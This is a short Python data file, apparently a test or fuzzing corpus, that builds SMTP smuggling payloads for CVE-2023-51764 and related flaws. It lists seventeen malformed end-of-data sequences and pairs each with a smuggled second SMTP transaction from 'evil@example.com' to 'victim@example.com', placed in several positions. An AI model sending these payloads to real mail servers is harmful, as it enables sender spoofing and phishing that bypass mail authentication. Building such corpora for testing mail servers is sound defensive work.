"""Messages that hold what some server takes for the end of a message: SMTP smuggling (CVE-2023-51764 and its kin)."""

ENDS = [
    b"\r\n.\r\n",
    b"\n.\n",
    b"\n.\r\n",
    b"\r\n.\n",
    b"\r.\r",
    b"\r.\r\n",
    b"\r\n.\r",
    b"\r.\n",
    b"\n.\r",
    b"\r\n\0.\r\n",
    b"\0\r\n.\r\n",
    b"\r\n.\0\r\n",
    b"\r\n.\r\0\n",
    b"\n.\0\n",
    b"\r\n.\r\r\n",
    b"\r\r\n.\r\r\n",
    b"\n\n.\n\n",
]
SECOND = b"MAIL FROM:<evil@example.com>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: evil\r\n\r\nevil\r\n.\r\n"
HEAD = b"From: reports@example.com\r\nSubject: first\r\n\r\n"

# In the middle with a second message behind it, at the beginning of the body, at the end, as the whole, in the header.
MESSAGES = [
    message
    for end in ENDS
    for message in (
        HEAD + b"hello" + end + SECOND,
        HEAD + end + SECOND,
        HEAD + b"hello" + end,
        end + SECOND,
        b"Subject: first" + end + SECOND,
    )
]
